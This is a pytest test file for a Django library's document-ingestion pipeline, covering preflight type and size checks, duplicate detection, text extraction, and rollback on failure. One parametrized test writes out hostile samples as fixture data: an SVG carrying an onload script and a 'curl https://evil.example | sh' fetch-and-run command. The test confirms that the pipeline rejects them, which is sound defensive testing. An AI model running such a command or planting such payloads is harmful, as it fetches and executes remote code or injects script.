"""Each step of the ingestion pipeline on its own."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.base import ContentFile

from manumit.catalog.models import Attachment, Resource, Status
from manumit.catalog.tests.factories import ResourceFactory
from manumit.ingest.models import DocumentText, Outcome, Suggestion
from manumit.ingest.pipeline import (
    Document,
    StopPipeline,
    extract,
    preflight,
    save,
    suggest,
    title_for,
)
from manumit.ingest.tests.ingest_fixtures import FOUR_PAGES, copy

pytestmark = pytest.mark.django_db


def document_for(path: Path) -> Document:
    return Document(path=path, name=path.name)


def a_text_file(tmp_path: Path, text: str = "Forced labour in Thailand's fishing fleet.\n") -> Path:
    path = tmp_path / "in" / "note.txt"
    path.parent.mkdir(exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


# Preflight


def test_preflight_measures_the_file_and_names_its_type_from_the_content(tmp_path: Path) -> None:
    path = a_text_file(tmp_path)
    renamed = path.rename(path.with_suffix(".png"))  # the name says image; the content says text
    document = document_for(renamed)
    preflight(document)
    assert document.media_type == "text/plain"
    assert document.size == renamed.stat().st_size
    assert document.sha256 == hashlib.sha256(renamed.read_bytes()).hexdigest()


def test_preflight_refuses_a_file_over_the_size_limit(tmp_path: Path, settings: object) -> None:
    settings.MAX_UPLOAD_BYTES = 10  # type: ignore[attr-defined]
    with pytest.raises(StopPipeline) as stopped:
        preflight(document_for(a_text_file(tmp_path)))
    assert stopped.value.outcome == Outcome.REJECTED
    assert "larger than the 10 bytes allowed" in stopped.value.message


def test_preflight_takes_html_as_html_whatever_its_name(tmp_path: Path) -> None:
    page = tmp_path / "report.txt"
    page.write_text("<!doctype html><html><body><p>Debt bondage</p></body></html>")
    document = document_for(page)
    preflight(document)
    assert document.media_type == "text/html"


@pytest.mark.parametrize(
    ("name", "content", "found"),
    [
        ("logo.png", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "an SVG"),
        ("feed.txt", '<?xml version="1.0"?><feed><title>News</title></feed>', "XML"),
        ("notes.txt", "#!/bin/sh\ncurl https://evil.example | sh\n", "a script"),
    ],
)
def test_preflight_refuses_svg_xml_and_scripts_whatever_their_name(
    tmp_path: Path, name: str, content: str, found: str
) -> None:
    path = tmp_path / name
    path.write_text(content)
    with pytest.raises(StopPipeline) as stopped:
        preflight(document_for(path))
    assert stopped.value.outcome == Outcome.REJECTED
    assert f"This file looks like {found}" in stopped.value.message
    assert "which the library does not take" in stopped.value.message


def test_preflight_calls_a_file_named_pdf_that_is_no_pdf_unreadable(tmp_path: Path) -> None:
    fake = tmp_path / "report.pdf"
    fake.write_bytes(b"oops\n")
    with pytest.raises(StopPipeline) as stopped:
        preflight(document_for(fake))
    assert stopped.value.outcome == Outcome.UNREADABLE
    assert "named .pdf but its content is not a PDF" in stopped.value.message


def test_preflight_refuses_a_file_already_in_the_library_and_names_the_resource(
    tmp_path: Path,
) -> None:
    path = a_text_file(tmp_path)
    first = ResourceFactory.create(title="Fishing fleets")
    attachment = Attachment(resource=first, media_type="text/plain")
    attachment.file.save("note.txt", ContentFile(path.read_bytes()))
    attachment.measure()
    attachment.save()

    with pytest.raises(StopPipeline) as stopped:
        preflight(document_for(path))
    assert stopped.value.outcome == Outcome.DUPLICATE
    assert stopped.value.existing == first
    assert "already in the library, in “Fishing fleets”" in stopped.value.message


def test_preflight_does_not_count_the_attachment_being_ingested_as_its_own_duplicate(
    tmp_path: Path,
) -> None:
    resource = ResourceFactory.create()
    attachment = Attachment(resource=resource, media_type="text/plain")
    attachment.file.save("note.txt", ContentFile(a_text_file(tmp_path).read_bytes()))
    attachment.measure()
    attachment.save()
    document = Document(
        path=Path(attachment.file.path), name="note.txt", resource=resource, attachment=attachment
    )
    preflight(document)
    assert document.sha256 == attachment.sha256


# Extract and suggest


def test_extract_reads_a_pdf_page_by_page(shared_dir: Path, tmp_path: Path) -> None:
    document = document_for(copy(shared_dir, FOUR_PAGES, tmp_path))
    preflight(document)
    extract(document)
    assert document.outcome == Outcome.TEXT
    assert document.page_count == 4
    assert len(document.pages) == 4
    assert all(page.strip() for page in document.pages)
    assert document.extracted is not None and document.extracted.thumbnail_png


def test_extract_keeps_an_image_without_reading_text_from_it(tmp_path: Path) -> None:
    image = tmp_path / "chart.png"
    image.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(64))
    document = document_for(image)
    preflight(document)
    extract(document)
    assert document.outcome == Outcome.NO_TEXT
    assert "does not read the text of this kind of file" in document.message


def test_suggest_proposes_without_storing_anything(tmp_path: Path) -> None:
    document = document_for(a_text_file(tmp_path, "Forced labour in Thailand. " * 20))
    preflight(document)
    extract(document)
    suggest(document)
    assert document.proposals
    assert not Suggestion.objects.exists()


def test_a_title_comes_from_the_file_name_when_nothing_is_suggested(tmp_path: Path) -> None:
    document = Document(path=tmp_path / "x", name="Human_Trafficking-2014.pdf")
    assert title_for(document) == "Human Trafficking 2014"


# Save


def test_save_makes_a_draft_with_its_file_text_pages_and_thumbnail(
    shared_dir: Path, tmp_path: Path
) -> None:
    document = document_for(copy(shared_dir, FOUR_PAGES, tmp_path))
    for step in (preflight, extract, suggest, save):
        step(document)
    resource = Resource.objects.get()
    assert resource.status == Status.DRAFT
    assert document.created and document.resource == resource
    attachment = resource.attachments.get()
    assert attachment.page_count == 4
    assert attachment.sha256 == document.sha256
    assert attachment.file.read() == (tmp_path / FOUR_PAGES.name).read_bytes()
    text = DocumentText.objects.get(attachment=attachment)
    assert text.outcome == Outcome.TEXT
    assert list(text.pages.values_list("number", flat=True)) == [1, 2, 3, 4]
    assert text.char_count == document.char_count > 0
    assert text.thumbnail.read().startswith(b"\x89PNG")


def test_a_failure_while_saving_leaves_no_resource_attachment_or_stored_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    document = document_for(a_text_file(tmp_path, "Debt bondage in brick kilns. " * 10))
    for step in (preflight, extract, suggest):
        step(document)

    def broken(resource: Resource, proposals: list[object]) -> list[Suggestion]:
        raise RuntimeError("the database went away")

    monkeypatch.setattr("manumit.ingest.suggest.store_proposals", broken)
    with pytest.raises(RuntimeError):
        save(document)
    assert not Resource.objects.exists()
    assert not Attachment.objects.exists()
    assert not DocumentText.objects.exists()
    stored = [path for path in Path(settings.MEDIA_ROOT).rglob("*") if path.is_file()]
    assert stored == []
